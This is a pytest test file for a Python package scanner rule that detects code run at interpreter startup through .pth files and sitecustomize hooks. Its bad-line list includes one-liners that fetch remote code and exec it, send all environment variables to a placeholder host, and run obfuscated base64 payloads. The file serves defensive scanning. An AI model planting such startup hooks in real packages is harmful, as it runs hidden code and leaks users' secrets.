"""PTH-001: what runs whenever an interpreter starts."""

from __future__ import annotations

import base64
import textwrap
from typing import TYPE_CHECKING

import pytest

from assay.rules.pth_001_startup_hook import RULE
from tests.behaviour import findings

if TYPE_CHECKING:
    from assay.scanner.models import Packing

HIDDEN = base64.b64encode(b"print('inert')").decode()
URL = "http://example.invalid/x"


def told(files: dict[str, str], packed: Packing = "wheel") -> list[tuple[str, str]]:
    found = findings(RULE, {"demo/__init__.py": "", **files}, packed)
    return [(finding.severity.value, finding.evidence[0]) for finding in found]


def worst(line: str) -> str:
    return next((severity for severity, _ in told({"demo.pth": line + "\n"})), "nothing")


BAD_LINES = [
    (f"import base64; exec(base64.b64decode('{HIDDEN}'))", "critical"),
    (f"import base64 as b, builtins as c; getattr(c, 'ex' + 'ec')(b.b64decode('{HIDDEN}'))", "critical"),
    (f"import urllib.request as r; exec(r.urlopen('{URL}').read())", "critical"),
    (f"import urllib.request as r, os; r.urlopen('{URL}', data=str(dict(os.environ)).encode())", "critical"),
    (f"import zlib; exec(\"import base64\\nexec(base64.b64decode('{HIDDEN}'))\")", "critical"),
    ("import os; os.system('true')", "high"),
    ("import demo; os.system('true')", "high"),
    ("import subprocess; subprocess.Popen(['true'])", "high"),
    ("import os; __import__('sub' + 'process').run('true')", "high"),
    (f"import urllib.request; urllib.request.urlopen('{URL}')", "high"),
    ("import os; exec(open(os.path.expanduser('~/x')).read())", "high"),
    ("import os; exec(os.environ.get('X', ''))", "high"),
    ("import runpy; runpy.run_path('/tmp/x')", "high"),
    ("import ctypes; ctypes.CDLL('./x.so')", "high"),
    ("import sys; __import__(sys.argv[1])", "high"),
    ("import sys; open('/tmp/x', 'w').write('x')", "medium"),
]

GOOD_LINES = {
    "setuptools": (
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
        "enabled and __import__('_distutils_hack').add_shim(); "
    ),
    "coverage": (
        'import sys; exec(\'import os\\n\\nif os.getenv("COVERAGE_PROCESS_START"):\\n try:\\n  import coverage'
        '\\n except:\\n  pass\\n else:\\n  coverage.process_startup(slug="pth")\')'
    ),
    "coverage, as its manual says": "import coverage; coverage.process_startup()",
    "pytest-cov": (
        'import os, sys;exec(\'if "COV_CORE_SOURCE" in os.environ:\\n try:\\n  from pytest_cov.embed import '
        'init\\n  init()\\n except Exception as exc:\\n  sys.stderr.write("failed: {0!r}".format(exc))\')'
    ),
    "setuptools, editable": "import __editable___demo_1_0_finder; __editable___demo_1_0_finder.install()",
    "meson-python, editable": "import _demo_editable_loader",
    "virtualenv": "import _virtualenv",
    "pywin32": "import pywin32_bootstrap",
    "setuptools, a namespace": (
        "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_lo"
        "cals['sitedir'], *('zope',));importlib = has_mfs and __import__('importlib.util');has_mfs and __"
        "import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('zope', importlib.util.mo"
        "dule_from_spec(importlib.machinery.PathFinder.find_spec('zope', [os.path.dirname(p)])));m = m or"
        " sys.modules.setdefault('zope', types.ModuleType('zope'));mp = (m or []) and m.__dict__.setdefau"
        "lt('__path__',[]);(p not in mp) and mp.append(p)"
    ),
    "setuptools, an older namespace": (
        "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('mpl_toolkits',))"
        ";ie = os.path.exists(os.path.join(p,'__init__.py'));m = not ie and sys.modules.setdefault('mpl_t"
        "oolkits', types.ModuleType('mpl_toolkits'));mp = (m or []) and m.__dict__.setdefault('__path__',"
        "[]);(p not in mp) and mp.append(p)"
    ),
    "easy_install": (
        "import sys; new=sys.path[sys.__plen:]; del sys.path[sys.__plen:]; p=getattr(sys,'__egginsert',0)"
        "; sys.path[p:p]=new; sys.__egginsert = p+len(new)"
    ),
}


@pytest.mark.parametrize(("line", "expected"), BAD_LINES)
def test_bad_lines(line: str, expected: str) -> None:
    assert worst(line) == expected


@pytest.mark.parametrize("line", GOOD_LINES.values(), ids=GOOD_LINES)
def test_good_lines(line: str) -> None:
    assert worst(line) in ("info", "nothing")


@pytest.mark.parametrize(
    ("files", "packed", "expected"),
    [
        ({"demo.pth": "./folder\n# import os; os.system('true')\nos.system('true')\n"}, "wheel", []),
        ({"demo.pth": "import demo\n"}, "wheel", [("info", "loads demo/__init__.py")]),
        ({"demo/data.pth": "import os; os.system('true')\n"}, "wheel", []),
        ({"demo-1.data/purelib/demo.pth": "import os; os.system('')\n"}, "wheel", [("high", "calls os.system")]),
        ({"x.pth": "import os; os.system('')\n", "setup.py": ""}, "sdist", [("high", "calls os.system")]),
        ({"tests/x.pth": "import os; os.system('')\n"}, "sdist", []),
        ({"sitecustomize.py": "X = 1\n"}, "wheel", [("low", "is imported by the site module")]),
        ({"demo/sitecustomize.py": "import os\nos.system('')\n"}, "wheel", []),
        ({"usercustomize.py": "import os\nos.system('')\n"}, "wheel", [("medium", "calls os.system")]),
        (
            {"sitecustomize.py": "import os\ndef f():\n    os.system('')\n"},
            "wheel",
            [("low", "is imported by the site module")],
        ),
        (
            {"sitecustomize.py": "import os\ngetattr(os, 'sys' + 'tem')('')\n"},
            "wheel",
            [("high", "calls os.system and hides it (concat, getattr)")],
        ),
        (
            {"sitecustomize.py": f"import base64\nif False:\n    exec(base64.b64decode('{HIDDEN}'))\n"},
            "wheel",
            [("low", "is imported by the site module")],
        ),
    ],
)
def test_where_a_hook_lies(files: dict[str, str], packed: Packing, expected: list[tuple[str, str]]) -> None:
    assert told(files, packed) == expected


WRITE = (
    "import os, site\npath = os.path.join(site.getsitepackages()[0], {})\nwith open(path, 'w') as f:\n    f.write({})\n"
)


@pytest.mark.parametrize(
    ("name", "text", "expected"),
    [
        ("'demo.pth'", "'import demo\\n'", ["low"]),
        ("'demo.pth'", "'import sys; exec(\"import demo\")\\n'", ["low"]),
        ("'site-packages/demo.pth'", "input()", ["medium"]),
        ("'demo.pth'", "'import os; os.system(1)\\n'", ["high"]),
        ("'sitecustomize.py'", "'x = 1'", ["medium"]),
        ("'demo.txt'", "'import demo\\n'", []),
        ("'weights.pth'", "b'weights'", []),
    ],
)
def test_a_hook_that_is_written(name: str, text: str, expected: list[str]) -> None:
    found = told({"setup.py": WRITE.format(name, text)}, "sdist")
    assert [severity for severity, _ in found] == expected


def test_a_hook_that_is_written_on_import_or_when_asked() -> None:
    script = WRITE.format("'demo.pth'", "'import os; os.system(1)\\n'")
    assert [severity for severity, _ in told({"demo/a.py": script})] == ["high"]
    assert told({"demo/a.py": "def install():\n" + textwrap.indent(script, "    ")}) == []


def test_where_it_points() -> None:
    line = "./x\nimport sys; exec('import os\\nos.system(\"true\")')\n"
    (finding,) = findings(RULE, {"demo.pth": line})
    assert finding.location
    assert tuple(finding.location)[:3] == ("demo-1.0-py3-none-any.whl!/demo.pth", 2, 13)
    assert finding.message == "demo 1.0 runs code whenever Python starts"
    assert finding.trigger == "startup"


def test_a_component_alone_says_nothing() -> None:
    assert RULE.check is None
